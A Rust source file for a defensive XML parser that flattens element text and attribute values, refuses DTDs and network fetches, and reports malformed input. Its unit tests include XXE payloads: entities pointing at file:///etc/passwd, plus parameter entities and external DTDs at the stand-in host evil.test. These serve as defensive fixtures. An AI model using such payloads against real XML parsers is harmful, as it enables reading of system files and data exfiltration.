//! XML 1.0, flattened with a pull parser: the text of all elements run together (libxml2's string value of the root, what
//! `XML:/*` is), and the values of attributes (`XML://@*`, which leaves namespace declarations out, as XPath does).
//!
//! No DTD is read, no entity but the five of the standard and character references is known, nothing is fetched. That a
//! DTD declares entities or attributes (which may have values that are not in the document), or that it lies elsewhere, is
//! said, for whoever reads the document next may use them. What a document gets wrong without making the rest unreadable
//! (an unknown entity, an attribute without quotes, a second root) is said and kept as it is written.
//!
//! Invariants: memory is linear in the body; nesting takes no thread's stack.

use std::borrow::Cow;

use quick_xml::XmlVersion;
use quick_xml::errors::{Error, IllFormedError, SyntaxError};
use quick_xml::escape::resolve_xml_entity;
use quick_xml::events::{BytesRef, BytesStart, Event};
use quick_xml::reader::Reader;

use super::{BodyError, Limits, Xml};

pub(super) fn parse(input: &[u8], limits: Limits) -> Xml {
    let mut document = Document {
        limits,
        xml: Xml::default(),
        items: 0,
        depth: 0,
        root: false,
        in_text: false,
    };
    if input.trim_ascii().is_empty() {
        return document.xml;
    }
    let text = document.decode(input.strip_prefix(b"\xef\xbb\xbf").unwrap_or(input));
    if let Err(error) = document.read(&text) {
        document.fault(error);
    }
    document.xml
}

struct Document {
    limits: Limits,
    xml: Xml,
    items: usize,
    depth: usize,
    /// There was a root element.
    root: bool,
    /// The last event was text too.
    in_text: bool,
}

impl Document {
    /// The document as characters. One that is not UTF-8 is read byte by byte where it says that it may be, so that its
    /// ASCII is right, and else up to the first byte that is wrong.
    fn decode<'i>(&mut self, input: &'i [u8]) -> Cow<'i, str> {
        let error = match std::str::from_utf8(input) {
            Ok(text) => return Cow::Borrowed(text),
            Err(error) => error,
        };
        let (valid, _) = input.split_at(error.valid_up_to());
        let head = String::from_utf8_lossy(valid.get(..valid.len().min(256)).unwrap_or_default()).to_ascii_lowercase();
        let (declaration, _) = head.split_once("?>").unwrap_or_default();
        if declaration.contains("iso-8859-") || declaration.contains("windows-125") {
            return input.iter().map(|&byte| char::from(byte)).collect::<String>().into();
        }
        let message = format!("not UTF-8 at byte {}", valid.len());
        self.fault(BodyError::new(message).at_end(error.error_len().is_none()));
        String::from_utf8_lossy(valid)
    }

    fn read(&mut self, text: &str) -> Result<(), BodyError> {
        let malformed = |error: &dyn std::fmt::Display| BodyError::new(format!("not XML: {error}"));
        let mut reader = Reader::from_str(text);
        loop {
            let event = reader.read_event().map_err(|error| {
                let cut = is_cut(&error, text, reader.error_position());
                malformed(&error).at_end(cut)
            })?;
            let continues = matches!(event, Event::Text(_) | Event::CData(_) | Event::GeneralRef(_));
            match event {
                Event::Start(start) => {
                    self.element(&start)?;
                    self.depth += 1;
                    if self.depth > self.limits.depth {
                        return Err(BodyError::new(format!("nested deeper than {}", self.limits.depth)));
                    }
                }
                Event::Empty(start) => self.element(&start)?,
                Event::End(_) => self.depth = self.depth.saturating_sub(1),
                Event::Text(text) => self.text(&text.xml10_content())?,
                Event::CData(text) => self.text(&text.xml10_content())?,
                Event::GeneralRef(reference) => self.reference(&reference)?,
                Event::Decl(declaration) => {
                    let encoding = declaration.encoding().and_then(Result::ok).unwrap_or_default();
                    if !encoding.is_empty() && !is_ascii_based(&encoding) {
                        self.fault(BodyError::new(format!("the encoding {encoding:.40} is not known")));
                    }
                }
                Event::DocType(text) => {
                    self.xml.doctype = true;
                    if let Some(fault) = doctype_fault(&text) {
                        self.fault(BodyError::new(fault));
                    }
                }
                Event::Comment(_) | Event::PI(_) => {}
                Event::Eof if self.depth > 0 => return Err(malformed(&"it ends within an element").at_end(true)),
                Event::Eof if !self.root => return Err(malformed(&"there is no element").at_end(true)),
                Event::Eof => return Ok(()),
            }
            self.in_text = continues;
        }
    }

    fn element(&mut self, start: &BytesStart<'_>) -> Result<(), BodyError> {
        if self.depth == 0 && std::mem::replace(&mut self.root, true) {
            self.fault(BodyError::new("not XML: there is a second root"));
        }
        let mut attributes = start.attributes();
        // To look for doubled names would take time in the square of their number.
        for attribute in attributes.with_checks(false) {
            let Ok(attribute) = attribute else {
                self.fault(BodyError::new("not XML: an attribute without quotes or value"));
                self.count()?;
                self.xml.attributes.push(start.attributes_raw().as_bytes().to_vec());
                break;
            };
            let name: &str = attribute.key.as_ref();
            if name == "xmlns" || name.starts_with("xmlns:") {
                continue;
            }
            self.count()?;
            let value = attribute.normalized_value_with(XmlVersion::Implicit1_0, 1, resolve_xml_entity);
            if value.is_err() {
                self.fault(BodyError::new("not XML: an unknown entity in an attribute"));
            }
            let value = value.unwrap_or_else(|_| attribute.value.clone());
            self.xml.attributes.push(value.into_owned().into_bytes());
        }
        Ok(())
    }

    fn text(&mut self, text: &str) -> Result<(), BodyError> {
        if self.depth == 0 {
            if text.trim_ascii().is_empty() {
                return Ok(());
            }
            self.fault(BodyError::new("not XML: there is text outside of the root"));
        }
        if !self.in_text && !text.is_empty() {
            self.count()?;
        }
        self.xml.text.extend_from_slice(text.as_bytes());
        Ok(())
    }

    fn reference(&mut self, reference: &BytesRef<'_>) -> Result<(), BodyError> {
        let name: &str = reference;
        if let Ok(Some(character)) = reference.resolve_char_ref() {
            return self.text(character.encode_utf8(&mut [0; 4]));
        }
        if let Some(known) = resolve_xml_entity(name) {
            return self.text(known);
        }
        self.fault(BodyError::new(format!("not XML: the entity {name:.40} is not known")));
        self.text(&format!("&{name};"))
    }

    fn count(&mut self) -> Result<(), BodyError> {
        self.items += 1;
        if self.items > self.limits.items {
            return Err(BodyError::new(format!(
                "more than {} texts and attributes",
                self.limits.items
            )));
        }
        Ok(())
    }

    /// The first fault is the one that is told, but for what more of the document could make right.
    fn fault(&mut self, error: BodyError) {
        if self
            .xml
            .error
            .as_ref()
            .is_none_or(|known| known.at_end && !error.at_end)
        {
            self.xml.error = Some(error);
        }
    }
}

/// What a DOCTYPE adds to the document that is not in it.
fn doctype_fault(text: &str) -> Option<&'static str> {
    if text.contains("<!ENTITY") {
        return Some("its DOCTYPE declares entities");
    }
    if text.contains("<!ATTLIST") {
        return Some("its DOCTYPE declares attributes");
    }
    // Behind the name there may be SYSTEM or PUBLIC with their literals, and a subset in brackets.
    let (head, _) = text.split_once('[').unwrap_or((text, ""));
    (head.split_ascii_whitespace().count() > 1).then_some("its DOCTYPE has an external subset")
}

/// Whether the parser fails because the document ends: within a tag, a comment or the like, or within a reference that
/// begins at `position`.
fn is_cut(error: &Error, text: &str, position: u64) -> bool {
    match error {
        Error::Syntax(SyntaxError::InvalidBangMarkup) => text.ends_with("<!"),
        Error::Syntax(_) => true,
        Error::IllFormed(IllFormedError::UnclosedReference) => {
            let rest = usize::try_from(position)
                .ok()
                .and_then(|position| text.get(position + 1..));
            let is_name =
                |character: char| character.is_alphanumeric() || matches!(character, '#' | '.' | '-' | '_' | ':');
            rest.is_some_and(|rest| rest.chars().all(is_name))
        }
        _ => false,
    }
}

/// Whether ASCII means ASCII in it, which it does not in UTF-7, UTF-16 and EBCDIC.
fn is_ascii_based(encoding: &str) -> bool {
    let encoding = encoding.to_ascii_lowercase();
    matches!(encoding.as_str(), "utf-8" | "utf8" | "us-ascii" | "ascii")
        || encoding.starts_with("iso-8859-")
        || encoding.starts_with("windows-125")
}

#[cfg(test)]
mod tests {
    use super::*;

    const LIMITS: Limits = Limits { items: 10, depth: 4 };

    fn read(input: &str) -> (String, Vec<String>, Option<String>) {
        let xml = parse(input.as_bytes(), LIMITS);
        let text = |bytes: &[u8]| String::from_utf8(bytes.to_vec()).unwrap();
        let attributes = xml.attributes.iter().map(|value| text(value)).collect();
        (text(&xml.text), attributes, xml.error.map(|error| error.to_string()))
    }

    #[track_caller]
    fn is(input: &str, text: &str, attributes: &[&str]) {
        let attributes = attributes.iter().map(|value| (*value).to_owned()).collect();
        assert_eq!(read(input), (text.to_owned(), attributes, None), "{input}");
    }

    #[track_caller]
    fn fails(input: &str, text: &str, message: &str) {
        let (read, _, error) = read(input);
        assert_eq!((read.as_str(), error.as_deref()), (text, Some(message)), "{input}");
    }

    #[test]
    fn the_text_of_all_elements_runs_together() {
        is("<a>1<b>2</b> <!-- c --><c/>3<?pi x?></a>\n", "12 3", &[]);
        is("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<a>x</a>", "x", &[]);
        is("\u{feff}<a>x\r\ny</a>", "x\ny", &[]);
        is(
            "<a><![CDATA[<b>&amp;]]>&lt;&#x41;&#66;&amp;amp;&apos;&quot;</a>",
            "<b>&amp;<AB&amp;'\"",
            &[],
        );
    }

    #[test]
    fn attributes_are_values_without_namespace_declarations() {
        is(
            "<a xmlns='urn:a' xmlns:b=\"urn:b\" b:x='1' y=\"&lt;&#65;\n'\"><c z=''/></a>",
            "",
            &["1", "<A '", ""],
        );
    }

    #[test]
    fn a_blank_body_is_no_document_and_no_error() {
        is("", "", &[]);
        is(" \r\n", "", &[]);
    }

    #[test]
    fn a_doctype_is_not_read_and_one_that_declares_entities_is_an_error() {
        is("<!DOCTYPE a [<!ELEMENT a ANY>]><a>x</a>", "x", &[]);
        is("<!DOCTYPE\n a\t>\n<a>x</a>", "x", &[]);
        assert!(parse(b"<!DOCTYPE a><a/>", LIMITS).doctype && !parse(b"<a/>", LIMITS).doctype);
        let declares = "its DOCTYPE declares entities";
        let subset = "<!ENTITY x SYSTEM \"file:///etc/passwd\">";
        fails(&format!("<!DOCTYPE a [{subset}]><a>1&x;2</a>"), "1&x;2", declares);
        let parameter = "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://evil.test/x\"> %x;]><a>1</a>";
        fails(parameter, "1", declares);
        fails("<a>1&x;2</a>", "1&x;2", "not XML: the entity x is not known");
        let (_, attributes, error) = read("<a b='1&x;2' c='3'/>");
        assert_eq!(attributes, ["1&x;2", "3"]);
        assert!(error.is_some());
    }

    #[test]
    fn a_doctype_that_lies_elsewhere_or_declares_attributes_is_an_error() {
        for external in [
            "SYSTEM \"http://evil.test/x.dtd\"",
            "SYSTEM 'file:///etc/passwd'",
            "SYSTEM\n\"http://[::1]/x\"",
            "SYSTEM \"x\" [<!ELEMENT a ANY>]",
            "PUBLIC \"-//x//y\" \"http://evil.test/x.dtd\"",
            "PUBLIC \"[\" \"x\"",
        ] {
            let message = "its DOCTYPE has an external subset";
            fails(&format!("<!DOCTYPE a {external}><a>1</a>"), "1", message);
            fails(&format!("<!doctype\ta\t{external} ><a>1</a>"), "1", message);
        }
        let defaults = "<!DOCTYPE a [<!ATTLIST a b CDATA \"<script>\">]><a>1</a>";
        fails(defaults, "1", "its DOCTYPE declares attributes");
    }

    #[test]
    fn what_is_not_well_formed_is_an_error_and_what_stood_before_is_kept() {
        fails("<a>x", "x", "not XML: it ends within an element");
        fails("x", "x", "not XML: there is text outside of the root");
        fails("<a>1</a><b>2</b>", "12", "not XML: there is a second root");
        fails("<!-- c -->", "", "not XML: there is no element");
        fails(
            "<a x=1 y='2'>3</a>",
            "3",
            "not XML: an attribute without quotes or value",
        );
        for bad in ["<a>1</b>", "<a>1</a", "<a><b>1</a></b>", "<a>1 & 2</a>", "</a>"] {
            let (text, _, error) = read(bad);
            assert!(error.is_some(), "{bad}");
            assert!("1 ".starts_with(&text), "{bad}: {text}");
        }
    }

    #[test]
    fn of_a_document_that_is_cut_anywhere_nothing_is_wrong_but_its_end() {
        let whole = "<?xml version='1.0'?><!DOCTYPE a><!-- c --><a b='1&amp;2'>é&lt;<![CDATA[x]]><?p q?><c/>&#x41;</a>";
        for end in 1..whole.len() {
            let Some(error) = parse(&whole.as_bytes()[..end], LIMITS).error else {
                panic!("{end}: no error");
            };
            assert!(error.at_end, "{end}: {error}");
        }
        for wrong in [
            "<a>&x;",
            "<a>1 & 2",
            "<a>&x <b>",
            "<a></b>",
            "<a b=1>",
            "x",
            "<!x",
            "<a/><b>",
        ] {
            assert_eq!(
                parse(wrong.as_bytes(), LIMITS).error.map(|error| error.at_end),
                Some(false),
                "{wrong}"
            );
        }
        assert_eq!(
            parse(b"<a>&x;\xc3", LIMITS).error.map(|error| error.at_end),
            Some(false)
        );
    }

    #[test]
    fn an_encoding_in_which_ascii_is_not_ascii_is_an_error() {
        let (_, _, error) = read("<?xml version='1.0' encoding='UTF-7'?><a>+ADw-</a>");
        assert_eq!(error.as_deref(), Some("the encoding UTF-7 is not known"));
        let latin = parse(b"<?xml version='1.0' encoding='ISO-8859-1'?><a>\xe9&lt;</a>", LIMITS);
        assert_eq!((latin.text.as_slice(), latin.error), ("é<".as_bytes(), None));
        let unsaid = parse(b"<a>x\xe9&lt;</a>", LIMITS);
        assert_eq!(unsaid.text, b"x");
        assert_eq!(unsaid.error, Some(BodyError::new("not UTF-8 at byte 4")));
        assert!(
            parse(
                "<a/>"
                    .encode_utf16()
                    .flat_map(u16::to_be_bytes)
                    .collect::<Vec<_>>()
                    .as_slice(),
                LIMITS
            )
            .error
            .is_some()
        );
    }

    #[test]
    fn depth_and_items_are_limited() {
        is("<a><b><c><d>1</d></c></b></a>", "1", &[]);
        fails("<a><b><c><d><e>1</e></d></c></b></a>", "", "nested deeper than 4");
        let items = |count: usize| format!("<a>{}</a>", "<b>1</b>".repeat(count));
        is(&items(10), "1111111111", &[]);
        fails(&items(11), "1111111111", "more than 10 texts and attributes");
        is(&format!("<a>{}</a>", "x&amp;".repeat(20)), &"x&".repeat(20), &[]);
    }

    #[test]
    fn a_hundred_thousand_attributes_and_levels_are_read_in_one_pass() {
        let limits = Limits {
            items: usize::MAX,
            depth: usize::MAX,
        };
        let many: String = (0..100_000).map(|index| format!(" a{index}='x'")).collect();
        assert_eq!(
            parse(format!("<a{many}/>").as_bytes(), limits).attributes.len(),
            100_000
        );
        let deep = format!("{}1{}", "<a>".repeat(100_000), "</a>".repeat(100_000));
        assert_eq!(parse(deep.as_bytes(), limits).text, b"1");
    }
}
